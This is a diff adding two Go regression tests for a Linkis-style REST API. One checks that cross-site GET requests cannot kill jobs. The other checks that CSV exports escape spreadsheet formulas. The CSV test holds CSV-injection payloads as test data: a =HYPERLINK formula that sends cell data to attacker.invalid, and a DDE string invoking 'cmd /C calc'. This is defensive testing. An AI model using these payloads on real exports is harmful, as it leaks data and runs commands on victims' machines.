@@ -1,7 +1,9 @@
 package restapi_test
 
 import (
+	"bufio"
 	"bytes"
+	"net/http"
 	"net/url"
 	"strconv"
 	"strings"
@@ -276,4 +278,136 @@ func TestConformanceConsole(t *testing.T) {
 			t.Fatalf("step %q failed (Linkis: %s); the later steps need it", step.name, step.linkis)
 		}
 	}
+}
+
+// A page of another site cannot make a browser kill a job with its
+// session cookie (a regression test of the security review: a link or
+// redirect - a top-level GET, on which a SameSite=Lax cookie is sent -
+// killed the victim's job, an administrator's anyone's). The cookie is
+// SameSite=Strict, and a request authenticated by cookie that changes
+// something is refused when Sec-Fetch-Site says another site made it;
+// the console's own requests (same-origin) and reads are served, and so
+// are clients that send the token headers - Linkis's SDK does
+// (linkis-spring-cloud-services/linkis-service-gateway/
+// linkis-gateway-httpclient-support/src/main/scala/org/apache/linkis/
+// httpclient/dws/authentication/TokenAuthenticationStrategy.scala:
+// authToHeaders) - or a cookie jar without Sec-Fetch headers, as the SDK's
+// static login and linkis-cli do.
+func TestCrossSiteGETDoesNotKill(t *testing.T) {
+	s := conformanceServer(t)
+	alice := s.newClient(t, nil)
+	login := alice.login("alice", alicePassword)
+	login.ok(t)
+	var sameSite string
+	for _, c := range (&http.Response{Header: login.header}).Cookies() {
+		if c.Name == "linkis_user_session_ticket_id_v1" {
+			sameSite = map[http.SameSite]string{http.SameSiteLaxMode: "Lax", http.SameSiteStrictMode: "Strict", http.SameSiteNoneMode: "None"}[c.SameSite]
+		}
+	}
+	a := alice.do("POST", "/entrance/submit", nil, `{"executionContent":{"code":"sleep 30"},"labels":{"engineType":"shell-1","userCreator":"alice-IDE"}}`)
+	a.ok(t)
+	exec, taskID := str(t, a.Data, "execID"), idOf(t, a.Data, "taskID")
+	// What the browser sends when a page of another site navigates to it:
+	// the cookie (Lax allows it on a top-level GET), and Sec-Fetch-* saying
+	// where it comes from.
+	browser := &client{t: t, base: alice.base, hc: alice.hc, headers: map[string]string{
+		"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document", "Referer": "https://attacker.invalid/"}}
+	if sameSite != "Strict" {
+		t.Errorf("the session cookie is SameSite=%s, want Strict", sameSite)
+	}
+	k := browser.do("GET", "/entrance/"+exec+"/kill", nil, "")
+	st := alice.do("GET", "/jobhistory/"+taskID+"/get", nil, "")
+	st.ok(t)
+	if got := str(t, obj(t, st.Data, "task"), "status"); got == "Cancelled" || k.http != http.StatusForbidden {
+		t.Errorf("a cross-site top-level GET with the %s session cookie: HTTP %d %q, the job %s", sameSite, k.http, k.Message, got)
+	}
+	// A form another site posts, or a sibling host's page: refused too.
+	browser.headers["Sec-Fetch-Site"] = "same-site"
+	if kj := browser.do("POST", "/entrance/"+exec+"/killJobs", nil, `{"idList":["`+exec+`"],"taskIDList":[`+taskID+`]}`); kj.http != http.StatusForbidden {
+		t.Errorf("a same-site POST of killJobs with the session cookie: HTTP %d %q", kj.http, kj.Message)
+	}
+	// A cross-site read is served: it changes nothing, and the answer
+	// goes to the browser's user, not the other site.
+	browser.headers["Sec-Fetch-Site"] = "cross-site"
+	browser.do("GET", "/entrance/"+exec+"/status", nil, "").ok(t)
+	// The console's own kill (same-origin) works.
+	console := &client{t: t, base: alice.base, hc: alice.hc, headers: map[string]string{"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}}
+	console.do("GET", "/entrance/"+exec+"/kill", nil, "").ok(t)
+	if got := str(t, alice.waitEnded(taskID), "status"); got != "Cancelled" {
+		t.Errorf("after the console's kill the job is %s", got)
+	}
+}
+
+// A CSV download writes a text cell that a spreadsheet would take for a
+// formula - beginning with '=', '+', '-', '@', a tab or a carriage return
+// - after a "'", which spreadsheets read as "text" (OWASP's CSV
+// injection); numbers, negative ones too, stay as they are, and so does
+// the rest of the text (a regression test of the security review: data
+// of a shared table, or another user's result an administrator exports,
+// ran as a formula on the downloader's machine - =HYPERLINK to leak the
+// sheet, DDE on older Excel). XLSX downloads write strings as strings.
+func TestCSVCellsAreNotFormulas(t *testing.T) {
+	s := conformanceServer(t)
+	alice := s.newClient(t, nil)
+	alice.login("alice", alicePassword).ok(t)
+	code := `select '=HYPERLINK("http://attacker.invalid/?"&B2,"open")' as f, '@SUM(1+1)*cmd|'' /C calc''!A0' as g, '+1+2' as h, 'plain' as p, -7 as n, '-x' as "-c"`
+	a := alice.do("POST", "/entrance/submit", nil, `{"executionContent":{"code":`+strconv.Quote(code)+`},"labels":{"engineType":"sql-1","userCreator":"alice-IDE"}}`)
+	a.ok(t)
+	task := alice.waitEnded(idOf(t, a.Data, "taskID"))
+	if str(t, task, "status") != "Succeed" {
+		t.Fatalf("job %v", task)
+	}
+	d := alice.do("GET", "/filesystem/getDirFileTrees", url.Values{"path": {str(t, task, "resultLocation")}}, "")
+	d.ok(t)
+	set := str(t, list(t, obj(t, d.Data, "dirFileTrees"), "children")[0].(map[string]any), "path")
+	csv := alice.do("GET", "/filesystem/resultsetToExcel", url.Values{"path": {set}, "outputFileType": {"csv"}}, "")
+	if csv.http != 200 {
+		t.Fatalf("download: HTTP %d %s", csv.http, csv.raw)
+	}
+	sc := bufio.NewScanner(strings.NewReader(string(csv.raw)))
+	sc.Scan() // the header
+	if !sc.Scan() {
+		t.Fatalf("no row in %q", csv.raw)
+	}
+	row := sc.Text()
+	t.Logf("row as downloaded: %s", row)
+	for _, field := range splitCSV(row) {
+		if field != "" && strings.ContainsRune("=+-@", rune(field[0])) && field != "-7" {
+			t.Errorf("cell %q is written as a spreadsheet formula", field)
+		}
+	}
+	if !strings.HasPrefix(row, `"'=HYPERLINK(`) {
+		t.Errorf("the quoted cell begins %q: the guard goes inside the quotes", row[:min(len(row), 14)])
+	}
+	want := []string{`'=HYPERLINK("http://attacker.invalid/?"&B2,"open")`, `'@SUM(1+1)*cmd|' /C calc'!A0`, "'+1+2", "plain", "-7", "'-x"}
+	if got := splitCSV(row); strings.Join(got, "\x00") != strings.Join(want, "\x00") {
+		t.Errorf("row %q, want %q", got, want)
+	}
+	header := strings.SplitN(string(csv.raw), "\n", 2)[0]
+	if !strings.HasSuffix(header, ",'-c") {
+		t.Errorf("a column named -c heads the file as %q", header)
+	}
+}
+
+// splitCSV splits one CSV line into its fields, unquoted.
+func splitCSV(line string) []string {
+	var out []string
+	var b strings.Builder
+	quoted := false
+	for i := 0; i < len(line); i++ {
+		c := line[i]
+		switch {
+		case quoted && c == '"' && i+1 < len(line) && line[i+1] == '"':
+			b.WriteByte('"')
+			i++
+		case c == '"':
+			quoted = !quoted
+		case c == ',' && !quoted:
+			out = append(out, b.String())
+			b.Reset()
+		default:
+			b.WriteByte(c)
+		}
+	}
+	return append(out, b.String())
 }
